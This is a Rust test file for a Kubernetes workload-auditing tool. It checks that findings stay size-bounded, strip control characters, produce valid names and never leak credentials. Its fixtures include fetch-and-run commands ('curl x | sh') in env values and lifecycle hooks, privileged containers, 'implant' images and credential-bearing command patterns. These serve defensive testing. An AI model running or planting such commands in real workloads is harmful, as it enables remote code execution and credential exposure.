//! Whatever a workload holds: the finding is named validly, bounded in size, and gives no credential away.

use std::collections::BTreeSet;

use jiff::Timestamp;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::super::{Subject, Write, name, plan, reference};
use super::{UID, cron_job, judged};
use crate::api::finding::{ScheduledWorkloadFindingStatus as Status, SubjectKind, WorkloadReference};
use crate::workload::{Workload, WorkloadKey, WorkloadKind};

fn now() -> Timestamp {
    "2026-06-01T00:00:00Z".parse().unwrap()
}

/// The status and the note of the finding about a workload that deviates from an approval in all that it can.
fn written(workload: &Workload, approvals: usize) -> (Status, String) {
    let approval = json!({"match": {"names": ["*"]}, "expected": {
        "schedules": ["0 2 * * *"], "images": [{"repository": "registry.example.com/app"}],
        "commands": [{"command": ["app"], "args": ["--all"]}], "serviceAccounts": ["app"], "labels": {"team": "a"}
    }});
    let assessment = judged(workload, &vec![approval; approvals], now());
    let reference = reference(&workload.key, UID);
    let subject = Subject { workload: Some(workload), ..Subject::of(&reference) };
    match plan(subject, &assessment, None, now()) {
        Some(Write::Apply { status, notice: Some(notice), .. }) => (*status, notice.note),
        other => panic!("no finding was opened: {other:?}"),
    }
}

/// Texts that grow when they are escaped, cut or counted in characters.
const HOSTILE: [&str; 8] = ["x", "\"", "\\", "\u{0}", "\u{1b}[2J", "\u{1f480}", "\u{e0041}", "\u{202e}é"];

#[test]
fn a_hostile_workload_has_a_bounded_finding() {
    for text in HOSTILE {
        let long = text.repeat(300);
        let full = json!({
            "name": long, "image": long, "command": vec![&long; 26], "args": vec![&long; 26],
            "env": vec![json!({"name": long, "value": "curl x | sh"}); 26],
            "envFrom": vec![json!({"secretRef": {"name": long}}); 26],
            "lifecycle": {"postStart": {"exec": {"command": [long, "curl x | sh"]}}},
            "securityContext": {"privileged": true, "capabilities": {"add": vec![&long; 3]}},
        });
        let thin = json!({"name": long, "image": long, "command": [long], "args": ["curl x | sh"]});
        let workload = cron_job(
            &long,
            &json!({
                "initContainers": [full], "containers": vec![thin; 60], "serviceAccountName": long, "nodeName": long,
                "volumes": vec![json!({"name": long, "hostPath": {"path": long}}); 60],
                "tolerations": vec![json!({"operator": "Exists"}); 60],
            }),
        );
        assert_bounded(&workload, &format!("containers of {text:?}"));
    }
    let many: Vec<Value> = (0..4_000).map(|i| json!({"name": format!("c{i}"), "image": format!("evil/{i}")})).collect();
    assert_bounded(&cron_job("* * * * *", &json!({"containers": many})), "thousands of containers");
}

fn assert_bounded(workload: &Workload, what: &str) {
    let (status, note) = written(workload, 1);
    let text = serde_json::to_string(&status).unwrap();
    assert!(text.len() < 100 * 1024, "{what}: the status takes {} bytes", text.len());
    assert!(note.len() <= 1024, "{what}: the note takes {} bytes", note.len());
    assert!(!note.contains(|c: char| c.is_control()), "{what}: {note:?}");
    let snapshot = serde_json::to_string(&status.snapshot).unwrap();
    assert!(snapshot.len() <= 8 * 1024, "{what}: the snapshot takes {} bytes", snapshot.len());
    assert!(status.deviations.len() <= 50 && status.risks.len() <= 50 && status.approvals.len() <= 20, "{what}");
    let is_shown = |c: char| !c.is_control() && !matches!(c, '\u{202e}' | '\u{e0041}');
    let shown: Status = serde_json::from_str(&text).unwrap();
    for deviation in &shown.deviations {
        assert!(deviation.observed.chars().all(is_shown), "{what}: {:?}", deviation.observed);
    }
}

#[test]
fn what_is_left_out_is_announced() {
    let many: Vec<Value> = (0..60).map(|i| json!({"name": format!("c{i}"), "image": format!("evil/{i}")})).collect();
    let (status, _) = written(&cron_job("* * * * *", &json!({"containers": many})), 25);
    assert_eq!(status.snapshot.unwrap().truncated.as_deref(), Some("36 containers left out: the snapshot is full"));
    let last = status.deviations.last().unwrap();
    assert!(last.observed.contains("more deviations"), "{last:?}");
}

/// Padding of one container does not keep the others, or itself, out of the evidence.
#[test]
fn a_padded_container_hides_none() {
    let padded = json!({"name": "padding", "image": "app", "args": vec!["é ".repeat(2_000); 200]});
    let pod =
        json!({"initContainers": [padded.clone(), padded], "containers": [{"name": "implant", "image": "evil:1"}]});
    let (status, _) = written(&cron_job("0 2 * * *", &pod), 1);
    let snapshot = status.snapshot.unwrap();
    let names: Vec<&str> = snapshot.containers.iter().map(|container| container.name.as_str()).collect();
    assert_eq!(names, ["padding", "padding", "implant"]);
}

/// Where a credential can stand in a workload, with the secret as `{}`.
const PLACES: [&str; 12] = [
    "--password={}",
    "--db-token {}",
    "PGPASSWORD={} pg_dump",
    "export API_KEY='{}'; run",
    "https://admin:{}@example.com/",
    "postgres://admin:{}@db/prod?sslmode=off",
    "curl -H 'Authorization: Bearer {}' https://x",
    "curl -u admin:{} https://x",
    "curl --user admin:{} https://x",
    "mysqldump -u root -p{} prod",
    "{\"clientSecret\": \"{}\"}",
    "-p{}",
];

proptest! {
    #[test]
    fn credentials_are_never_written(secret in "[a-z]{4}[A-Z]{4}[0-9]{4}[a-zA-Z0-9]{0,12}", place in 0..PLACES.len()) {
        let text = PLACES[place].replacen("{}", &secret, 1);
        let container = json!({
            "name": "a", "image": "registry.example.com/app:1",
            "command": ["sh", "-c", text], "args": [text, "--secret", secret],
            "env": [{"name": "INNOCENT", "value": secret}, {"name": "SETUP", "value": format!("curl -s x | sh {secret}")}],
            "lifecycle": {"postStart": {"exec": {"command": ["curl", "--token", secret, text]}}},
        });
        let (status, note) = written(&cron_job("0 2 * * *", &json!({"containers": [container]})), 1);
        let shown = serde_json::to_string(&status).unwrap();
        prop_assert!(!shown.contains(&secret), "{}: {}", text, shown);
        prop_assert!(!note.contains(&secret), "{}: {}", text, note);
    }

    #[test]
    fn names_are_valid_for_objects(namespace in "\\PC{0,80}", name_ in "[a-z.A-Z-]{0,300}", uid in "[0-9a-f-]{0,36}") {
        let key = WorkloadKey { namespace, name: name_, kind: WorkloadKind::Job };
        prop_assert!(is_subdomain(&name(&reference(&key, &uid))), "{}", key);
    }
}

/// As the API server checks it.
fn is_subdomain(text: &str) -> bool {
    let letter = |c: char| c.is_ascii_lowercase() || c.is_ascii_digit();
    text.len() <= 253
        && text.split('.').all(|part| {
            part.starts_with(letter) && part.ends_with(letter) && part.chars().all(|c| letter(c) || c == '-')
        })
}

#[test]
fn names_are_readable_and_unique() {
    let of = |kind, namespace: &str, name_: &str, uid: &str| {
        name(&WorkloadReference { kind, namespace: namespace.to_owned(), name: name_.to_owned(), uid: uid.to_owned() })
    };
    assert!(of(SubjectKind::CronJob, "payments", "nightly-backup", "1").starts_with("payments-nightly-backup-"));
    let long = "a".repeat(253);
    let longer = format!("{}b", "a".repeat(252));
    let names = [
        of(SubjectKind::CronJob, "a", "b-c", "1"),
        of(SubjectKind::CronJob, "a-b", "c", "1"),
        of(SubjectKind::Job, "a", "b-c", "1"),
        of(SubjectKind::CronJob, "a", "b-c", "2"),
        of(SubjectKind::CronJob, "a", "b-c", ""),
        of(SubjectKind::CronJob, "a", "b.c", "1"),
        of(SubjectKind::CronJob, "a", &long, "1"),
        of(SubjectKind::CronJob, "a", &longer, "1"),
        of(SubjectKind::CronJob, "", "", ""),
    ];
    assert!(names.iter().all(|name| is_subdomain(name)), "{names:?}");
    assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), names.len(), "{names:?}");
}
